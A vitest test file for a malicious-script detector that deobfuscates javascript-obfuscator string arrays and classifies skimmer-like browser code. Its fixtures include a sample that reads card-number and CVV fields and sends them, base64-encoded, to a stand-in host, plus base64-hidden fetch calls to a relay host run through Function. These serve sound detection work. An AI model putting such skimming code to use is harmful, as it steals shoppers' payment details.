import { describe, expect, it } from 'vitest'
import { analyzeScript } from '../../detector/index.ts'
import { obfuscatorBase64, STANDARD_ALPHABET } from '../../detector/deobfuscate/obfuscator-codec.ts'
import { stringArrayEdits } from '../../detector/deobfuscate/string-array.ts'
import { splice } from '../../detector/deobfuscate/splice.ts'
import { parseStrict } from '../../detector/parse.ts'

// The layout of javascript-obfuscator's releases before 2.x, as 2018–2020 skimmers carry it:
// the string array is turned a counted number of times (no parseInt checksum), through a helper
// when self-defending is on; encoded strings keep their base64 padding; and any release may
// leave a decoded member glued to the next word (`a[f('0x1')]instanceof B`).

const resolve = (source: string): string => {
  const edits = stringArrayEdits(parseStrict(source) as never, source)
  return edits ? splice(source, edits).text : source
}

// After one left turn the array reads ['addEventListener', 'click', 'https://c.example/i'].
const ARRAY = `var t=['https://c.example/i','addEventListener','click'];`
const DECODER = `var d=function(i,k){i=i-0x0;var s=t[i];return s;};`
const USE = `document[d('0x0')](d('0x1'),function(){new Image().src=d('0x2')});`

describe('a string array turned a counted number of times', () => {
  it('is read once the turn count is known', () => {
    const out = resolve(
      `${ARRAY}(function(a,n){var r=function(c){while(--c){a['push'](a['shift']());}};r(++n);}(t,0x1));${DECODER}${USE}`,
    )
    expect(out).toContain(
      `document.addEventListener('click',function(){new Image().src='https://c.example/i'})`,
    )
  })

  it('is read when a self-defending helper makes the call', () => {
    const out = resolve(
      `${ARRAY}(function(a,n){var r=function(c){while(--c){a.push(a.shift());}};var g=function(){var h=function(f,x){f(++x);};return h(r,n),'v';};g();}(t,0x4));${DECODER}${USE}`,
    )
    expect(out).toContain(`src='https://c.example/i'`)
  })

  it('stays unread when the turn is not exactly the template', () => {
    const turn = `var r=function(c){while(--c){a.push(a.shift());}};`
    const iife = (body: string): string => `(function(a,n){${turn}${body}}(t,0x1));`
    for (const body of [
      'r(++n);r(++n);', // twice
      'n+=1;r(++n);', // the count changed first
      'for(var i=0;i<2;i++)r(++n);', // in a loop
      'var g=function(){r(++n)};g();g();', // through a function called twice
      'r(++n);a.reverse();', // the array changed otherwise
      'if(0)r(++n);', // a call that may never run
    ]) {
      const source = `${ARRAY}${iife(body)}${DECODER}${USE}`
      expect({ body, out: resolve(source) }).toEqual({ body, out: source })
    }
    const twoTurns = `${ARRAY}${iife('r(++n);')}${iife('r(++n);')}${DECODER}${USE}`
    expect(resolve(twoTurns)).toBe(twoTurns)
    const shifted = `${ARRAY}${iife('r(++n);')}var d=function(i){i=i-0x0;var s=t[(i+1)%3];return s;};${USE}`
    expect(resolve(shifted)).toBe(shifted)
  })

  it('made through a helper is read only when each function on the way runs once', () => {
    const helper = (calls: string): string =>
      `${ARRAY}(function(a,n){var r=function(c){while(--c){a.push(a.shift());}};var g=function(){var h=function(f,x){f(++x);};return h(r,n),'v';};${calls}}(t,0x4));${DECODER}${USE}`
    expect(resolve(helper('g();'))).toContain(`src='https://c.example/i'`)
    const twice = helper('g();g();')
    expect(resolve(twice)).toBe(twice)
  })
})

describe("2.x releases' decoder", () => {
  it('is read although it replaces itself on its first call', () => {
    const out = resolve(
      `function a(){var s=['https://c.example/i','click','addEventListener'];a=function(){return s;};return a();}` +
        `function d(x,y){var t=a();return d=function(i,k){i=i-0x10;var v=t[i];return v;},d(x,y);}` +
        `document[d(0x12)](d(0x11),function(){new Image().src=d(0x10)});`,
    )
    expect(out).toContain(
      `document.addEventListener('click',function(){new Image().src='https://c.example/i'})`,
    )
  })

  it('is left to the evaluator when it calls itself otherwise, or does more first', () => {
    const head = `function a(){var s=['x','y'];a=function(){return s;};return a();}`
    const inner = `function(i,k){i=i-0x0;var v=t[i];return v;}`
    for (const tail of [`d(x+1,y)`, `t.reverse(),d(x,y)`]) {
      const source = `${head}function d(x,y){var t=a();return d=${inner},${tail};}f(d(0x1));`
      expect(resolve(source)).toBe(source)
    }
  })

  it('is left to the evaluator when its inner function reads another array', () => {
    const source =
      `function a(){var s=['x','y'];a=function(){return s;};return a();}var o=['p','q'];` +
      `function d(x,y){var t=a();return d=function(i,k){i=i-0x0;var v=o[i];return v;},d(x,y);}f(d(0x1));`
    expect(resolve(source)).toBe(source)
  })
})

describe('the pieces older releases decode', () => {
  it('drop base64 padding before decoding', () => {
    expect(obfuscatorBase64('Y2xpY2s=', STANDARD_ALPHABET, true)).toBe('click')
    expect(obfuscatorBase64('aW1n', STANDARD_ALPHABET, true)).toBe('img')
    // current releases write none, and their decoder reads a `=` as data
    expect(obfuscatorBase64('Y2xpY2s=', STANDARD_ALPHABET)).not.toBe('click')
  })

  it('keep a decoded member apart from the word after it', () => {
    const out = resolve(
      `var t=['target'];var d=function(i){i=i-0x0;var s=t[i];return s;};var ok=e[d('0x0')]instanceof Element;`,
    )
    expect(out).toContain(`e.target instanceof Element`)
    expect(parseStrict(out)).not.toBeNull()
  })
})

describe('what obfuscated code leaves behind is no evidence', () => {
  it("a field selector is evidence, whatever the table's value under it", () => {
    const source = `var m={'input[name="payment[cc_number]"]':function(){},'input[name="payment[cc_cid]"]':function(){}};
document.addEventListener('click',function(){var d={};for(var k in m){var e=document.querySelector(k);if(e)d[k]=e.value;}
new Image().src='https://stats-cdn.example/c?d='+btoa(JSON.stringify(d));});`
    expect(analyzeScript(source).verdict).toBe('malicious')
  })

  it("a helper table's method named like a card field names no field", () => {
    const source = `var h={'ccMmu':function(a,b){return a===b},'qRtx':function(a,b){return a<b}};
var el=document.querySelector('input[name="postcode"]');
el.addEventListener('input',function(){if(h.qRtx(el.value.length,5))return;
fetch('https://api.lookup.example/v1',{method:'POST',body:JSON.stringify({postcode:el.value})});});`
    const v = analyzeScript(source)
    expect(v.findings.map((f) => f.rule)).not.toContain('card-field-read-and-send')
    expect(v.verdict).not.toBe('malicious')
  })

  it('code built at run time that only returns a constant runs nothing hidden', () => {
    const inert = analyzeScript(`var g=Function(atob('cmV0dXJuIHRoaXM='))();g.x=1;`)
    expect(inert.findings.map((f) => f.rule)).not.toContain('dynamic-code-from-decoded')
    const regex = analyzeScript(
      `var r=Function(atob('cmV0dXJuIC8iICsgdGhpcyArICIv'))().constructor('^x$');r.test('y');`,
    )
    expect(regex.findings.map((f) => f.rule)).not.toContain('dynamic-code-from-decoded')
    // fetch('//relay.example/x') hidden the same way still runs a decoded string
    const hidden = analyzeScript(`Function(atob('ZmV0Y2goJy8vcmVsYXkuZXhhbXBsZS94Jyk='))();`)
    expect(hidden.findings.map((f) => f.rule)).toContain('dynamic-code-from-decoded')
    // and so does an inert body behind parameters whose defaults run at the call
    const params = analyzeScript(
      `Function(atob('YT1mZXRjaCgnLy9yZWxheS5leGFtcGxlL3gnKQ=='),atob('cmV0dXJuIHRoaXM='))();`,
    )
    expect(params.findings.map((f) => f.rule)).toContain('dynamic-code-from-decoded')
  })
})

describe('decoder arguments moved out into a table', () => {
  const head = `var t=['click','addEventListener'];var d=function(i){i=i-0x0;var s=t[i];return s;};`
  it('are read from the table', () => {
    const out = resolve(`${head}var a={_0x1:0x1,_0x2:'0x0'};document[d(a._0x1)](d(a['_0x2']),f);`)
    expect(out).toContain(`document.addEventListener('click',f)`)
  })

  it('are not read from a table the file writes to, or uses otherwise', () => {
    for (const write of [
      'a._0x1=0x0;',
      'var b=a;b._0x1=0x0;',
      'a={_0x1:0x0,_0x2:0x1};',
      '[a._0x1]=[0x0];',
      'Object.assign(a,{_0x1:0x0});',
    ]) {
      const source = `${head}var a={_0x1:0x1,_0x2:'0x0'};${write}document[d(a._0x1)](d(a._0x2),f);`
      expect({ write, out: resolve(source) }).toEqual({ write, out: source })
    }
  })
})

describe('member names from decoders the first look cannot run', () => {
  const reason = 'obfuscated strings static analysis could not read'
  // each function has a decoder of its own over one blob; the numbers come from a constant table
  const fn = (name: string, from: number): string =>
    `function ${name}(){function q(a,b){return z(B.slice(a,a+b))}` +
    [0, 1, 2, 3].map((i) => `o[q(${from + i * 7},T[${i}])](p[q(${from + i * 9},0x5)]);`).join('') +
    `}`
  const blob = `var B=${JSON.stringify('k9#Lq'.repeat(60))};var T=[0x3,0x4,0x5,0x6];`

  it('are a reason to detonate when they come from several functions of one file', () => {
    const v = analyzeScript(blob + fn('f', 1) + fn('g', 90))
    expect(v.triage ?? []).toContain(reason)
  })

  it('are not when a file computes only a few', () => {
    const v = analyzeScript(blob + fn('f', 1))
    expect(v.triage ?? []).not.toContain(reason)
  })
})
